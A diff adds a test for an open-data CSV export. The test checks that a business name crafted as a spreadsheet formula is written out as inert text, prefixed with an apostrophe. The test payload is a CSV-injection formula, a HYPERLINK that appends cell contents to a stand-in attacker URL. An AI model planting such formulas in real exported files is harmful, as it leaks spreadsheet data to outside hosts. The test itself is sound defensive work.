@@ -69,6 +69,21 @@ describe('open data from the demo directory (SQLite)', () => {
     }
   })
 
+  it('writes a name that a spreadsheet would run as a formula as text (issue 17, CSV injection)', async () => {
+    const entry = (await payload.find({ collection: 'businesses', where: { status: { equals: 'published' }, territory: { equals: territoryId } }, limit: 1, overrideAccess: true, depth: 0 })).docs[0]!
+    const formula = '=HYPERLINK("http://pirate.example/?x="&A1,"Cliquez ici")'
+    await payload.update({ collection: 'businesses', id: entry.id, data: { name: formula }, overrideAccess: true })
+    try {
+      const text = await (await call(payload, openDataFileEndpoint, { territory: slug, file: 'entreprises.csv' })).text()
+      const [header, ...records] = parse(text) as string[][]
+      const names = records.map((r) => r[header!.indexOf('nom')])
+      expect(names).toContain(`'${formula}`)
+      expect(names.filter((n) => /^[=+\-@\t\r]/.test(n ?? ''))).toEqual([])
+    } finally {
+      await payload.update({ collection: 'businesses', id: entry.id, data: { name: entry.name }, overrideAccess: true })
+    }
+  })
+
   it('describes the files with a Data Package under Licence Ouverte 2.0, and refuses unknown files', async () => {
     const pkg = (await (await call(payload, openDataSchemaEndpoint, {})).json()) as { licenses: Array<{ name: string }>; resources: unknown[] }
     expect(pkg.licenses[0]!.name).toBe('etalab-2.0')
